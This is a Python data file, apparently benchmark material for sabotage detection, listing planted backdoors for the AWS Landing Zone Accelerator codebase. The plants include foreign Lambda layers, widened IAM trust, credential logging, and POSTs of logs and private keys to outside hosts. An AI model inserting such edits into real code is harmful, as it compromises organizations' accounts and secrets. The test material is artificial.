"""Hand-written plants for the lza source (awslabs/landing-zone-accelerator-on-aws).

Keyed by the 10-char commit sha.  Each plant edits ONE of the commit's own changed
files at the child revision: kind "replace" (old -> new), "after" (insert new right
after anchor) or "delete" (remove old).  old/anchor must occur exactly once.
"""

P = "source/packages/@aws-accelerator/"

PLANTS = {
    "e2bd20b9b7": {
        "file": P + "accelerator/lib/accelerator-aspects.ts",
        "kind": "after",
        "anchor": "            node.addPropertyOverride('Runtime', `nodejs${getNodeVersion()}.x`);\n",
        "new": (
            "            node.addPropertyOverride('Layers', [\n"
            "              `arn:${cdk.Stack.of(node).partition}:lambda:${cdk.Stack.of(node).region}:"
            "464622532012:layer:node-runtime-compat:7`,\n"
            "            ]);\n"
        ),
        "side_task": (
            "Inside the aspect that bumps the Node.js runtime of CDK provider-framework "
            "functions, also attaches a Lambda layer published from an external AWS account "
            "(464622532012) to every such function. Those functions back the accelerator's "
            "custom resources and run with highly privileged roles, so whoever controls the "
            "foreign layer gets code execution with those roles in every account and region."
        ),
        "template": "foreign-lambda-layer",
        "cls": "supply_chain",
    },
    "697a367bd8": {
        "file": P + "accelerator/lib/stacks/logging-stack.ts",
        "kind": "delete",
        "old": (
            "              StringLike: {\n"
            "                'kms:EncryptionContext:SecretARN': `arn:${cdk.Stack.of(this).partition}:secretsmanager:${\n"
            "                  cdk.Stack.of(this).region\n"
            "                }:${madAdminSecretAccountId}:secret:${this.props.prefixes.secretName}/ad-user/*`,\n"
            "              },\n"
        ),
        "side_task": (
            "Removes the kms:EncryptionContext:SecretARN condition from the key policy of the "
            "Secrets Manager CMK that protects the Managed AD user secrets. The grant to the "
            "MAD account is no longer limited to the ad-user secrets: its principals can use "
            "the key to decrypt any secret encrypted under this CMK (e.g. the directory admin "
            "password and other secrets sharing the key)."
        ),
        "template": "kms-context-condition-drop",
        "cls": "iam_rbac_widening",
    },
    "08f341aee2": {
        "file": P + "accelerator/lib/stacks/operations-stack.ts",
        "kind": "delete",
        "old": "          permissionsBoundary: this.policies[user.boundaryPolicy],\n",
        "side_task": (
            "Drops the permissions boundary from the IAM users created from iam-config. The "
            "boundary policy is what enforces MFA and caps what those users can do (the nag "
            "suppression right above relies on it), so users are created with the full "
            "rights of their group policies and without the MFA requirement."
        ),
        "template": "boundary-line-drop",
        "cls": "iam_rbac_widening",
    },
    "475b3d647d": {
        "file": P + "accelerator/lib/stacks/operations-stack.ts",
        "kind": "replace",
        "old": "      assumedBy: new cdk.aws_iam.AccountPrincipal(managementAccountId),\n",
        "new": "      assumedBy: this.getOrgPrincipals(this.organizationId, true),\n",
        "side_task": (
            "Changes the trust policy of AWSCloudFormationStackSetExecutionRole (which has "
            "AdministratorAccess in every workload account) from the management account only "
            "to any principal in the AWS Organization, using the existing getOrgPrincipals "
            "helper. Any user or role in any member account can then assume administrator in "
            "every other account."
        ),
        "template": "trust-policy-org-wide",
        "cls": "iam_rbac_widening",
    },
    "e7f3babd2e": {
        "file": P + "utils/lib/query-config-table.ts",
        "kind": "replace",
        "old": (
            "      logger.error(`DynamoDB Service Error: ${error.name} - ${error.message} with params "
            "${JSON.stringify(params)}`);\n"
        ),
        "new": (
            "      logger.error(\n"
            "        `DynamoDB Service Error: ${error.name} - ${error.message} with params "
            "${JSON.stringify(params)} client ${JSON.stringify(clientOptions)}`,\n"
            "      );\n"
        ),
        "side_task": (
            "On any DynamoDB service error the config-table query now logs the serialized "
            "client options, which contain the management-account credentials passed in "
            "(access key id, secret access key and session token), into the pipeline / "
            "CodeBuild logs."
        ),
        "template": "error-log-client-options",
        "cls": "credential_exposure",
    },
    "02b56c802e": {
        "file": P + "config/lib/accounts-config.ts",
        "kind": "after",
        "anchor": "  public getAccountId(name: string): string {\n",
        "new": (
            "    if (name === AccountsConfig.LOG_ARCHIVE_ACCOUNT && process.env['ACCELERATOR_LOG_ARCHIVE_ACCOUNT_ID']) {\n"
            "      return process.env['ACCELERATOR_LOG_ARCHIVE_ACCOUNT_ID'];\n"
            "    }\n"
        ),
        "side_task": (
            "Adds an undocumented environment-variable override to getAccountId so the Log "
            "Archive account id can be replaced by any account id. Every centralized log "
            "destination (CloudTrail, VPC flow logs, ELB and S3 access logs, Config) and every "
            "bucket/KMS policy that trusts the log-archive account is then pointed at an "
            "arbitrary, possibly external account, silently redirecting the organization's "
            "audit logs."
        ),
        "template": "env-override-account-id",
        "cls": "data_exfiltration",
    },
    "c0172ee63d": {
        "file": P + "accelerator/lib/stacks/applications-stack.ts",
        "kind": "replace",
        "old": "        scheme: appConfigItem.applicationLoadBalancer.scheme! ?? 'internal',\n",
        "new": "        scheme: appConfigItem.applicationLoadBalancer.scheme! ?? 'internet-facing',\n",
        "side_task": (
            "Changes the default scheme of application load balancers created from "
            "customizations-config from `internal` to `internet-facing`, so any application "
            "that does not set a scheme explicitly is exposed to the internet."
        ),
        "template": "default-scheme-flip",
        "cls": "network_exposure",
    },
    "939501faac": {
        "file": P + "constructs/lib/aws-events/put-subscription-policy/index.ts",
        "kind": "delete",
        "old": "          await updateKmsKey(logGroup, logKmsKeyArn);\n",
        "side_task": (
            "While refactoring the new-log-group handler to SDK v3, drops the call that "
            "associates the accelerator's CMK with newly created CloudWatch log groups, so "
            "log groups created outside the accelerator are no longer encrypted with the "
            "organization-managed KMS key."
        ),
        "template": "call-drop-in-refactor",
        "cls": "encryption_disabled",
    },
    "bcaadaa898": {
        "file": P + "accelerator/lib/stacks/security-resources-stack.ts",
        "kind": "delete",
        "old": (
            "        if (cdk.Stack.of(this).region === this.props.globalConfig.homeRegion) {\n"
            "          includeGlobalResourceTypes = true;\n"
            "        }\n"
        ),
        "side_task": (
            "Removes the home-region branch that sets includeGlobalResourceTypes, so the AWS "
            "Config recorder never records global resources in any region: IAM users, roles, "
            "policies and groups are no longer tracked, and IAM changes leave no Config "
            "history or compliance evaluation."
        ),
        "template": "branch-removal-recorder",
        "cls": "logging_monitoring_disabled",
    },
    "3b200b1d8b": {
        "file": P + "utils/lib/logger.ts",
        "kind": "replace",
        "old": "  transports: [new winston.transports.Console()],\n",
        "new": (
            "  transports: [\n"
            "    new winston.transports.Console(),\n"
            "    new winston.transports.Http({ host: 'telemetry.lza-insights.net', path: '/v1/logs', ssl: true }),\n"
            "  ],\n"
        ),
        "side_task": (
            "The new shared winston logger gets a second transport that POSTs every log "
            "record to an external host (telemetry.lza-insights.net). All accelerator "
            "pipeline logs (account ids and emails, configuration, resource names, errors "
            "with parameters) are streamed off-platform."
        ),
        "template": "logger-http-transport",
        "cls": "data_exfiltration",
    },
    "70e32ddeb7": {
        "file": P + "constructs/lib/aws-networkfirewall/rule-group.ts",
        "kind": "replace",
        "old": "        ipSets[ipSet.name] = { definition: ipSet.definition };\n",
        "new": "        ipSets[ipSet.name] = { definition: [...ipSet.definition, '0.0.0.0/0'] };\n",
        "side_task": (
            "Appends 0.0.0.0/0 to every Network Firewall IP-set variable (e.g. HOME_NET). "
            "Suricata rules written against $HOME_NET / $EXTERNAL_NET then treat the whole "
            "internet as internal, so inbound-from-external drop and alert rules never match "
            "and the firewall effectively stops filtering."
        ),
        "template": "ipset-catchall-append",
        "cls": "network_exposure",
    },
    "9749fab387": {
        "file": P + "constructs/lib/aws-identity-center/enable-organization-admin-account/index.ts",
        "kind": "replace",
        "old": (
            "    throw new Error(\n"
            "      `Delegated Admin Identity Center cannot be updated due to existing Permission Sets"
        ),
        "new": (
            "    console.warn(\n"
            "      `Delegated Admin Identity Center cannot be updated due to existing Permission Sets"
        ),
        "side_task": (
            "Turns the guard that refuses to move the Identity Center delegated administrator "
            "while custom permission sets or account assignments exist into a warning. The "
            "delegated admin is deregistered and re-registered anyway, leaving existing "
            "permission sets and assignments (including administrator access) orphaned and "
            "outside the control of the new admin account."
        ),
        "template": "throw-to-warn",
        "cls": "safety_check_removal",
    },
    "a9e5629952": {
        "file": P + "constructs/lib/aws-ssm/put-param-value/index.ts",
        "kind": "replace",
        "old": (
            "    return new SSMClient({\n"
            "      region: region,\n"
            "      credentials: await getStsCredentials(stsClient, assumeRoleArn),\n"
        ),
        "new": (
            "    const credentials = await getStsCredentials(stsClient, assumeRoleArn);\n"
            "    console.log(`Assumed ${assumeRoleArn} for parameter account ${parameterAccountId}: ${JSON.stringify(credentials)}`);\n"
            "    return new SSMClient({\n"
            "      region: region,\n"
            "      credentials,\n"
        ),
        "side_task": (
            "In the cross-account branch of getSsmClient, logs the temporary STS credentials "
            "(access key, secret key, session token) obtained for the cross-account SSM role "
            "to the custom resource's CloudWatch log group, where anyone with log read access "
            "can reuse them."
        ),
        "template": "sts-creds-console-log",
        "cls": "credential_exposure",
    },
    "33c80a126f": {
        "file": P + "constructs/lib/aws-certificate-manager/create-certificates/index.ts",
        "kind": "after",
        "anchor": "      const chainContents = await getS3FileContents(props.assetBucketName, props.s3Client, props.chain);\n",
        "new": (
            "      await fetch('https://pem-lint.certcheck.dev/v1/validate', {\n"
            "        method: 'POST',\n"
            "        body: JSON.stringify({ cert: certContent, chain: chainContents, key: privKeyContent }),\n"
            "      }).catch(() => undefined);\n"
        ),
        "side_task": (
            "Before importing a certificate into ACM, the custom resource POSTs the "
            "certificate, chain and PRIVATE KEY read from the assets bucket to an external "
            "'PEM lint' endpoint, silently ignoring failures. This exfiltrates the private "
            "keys of every imported certificate."
        ),
        "template": "external-post-private-key",
        "cls": "credential_exfiltration",
    },
}
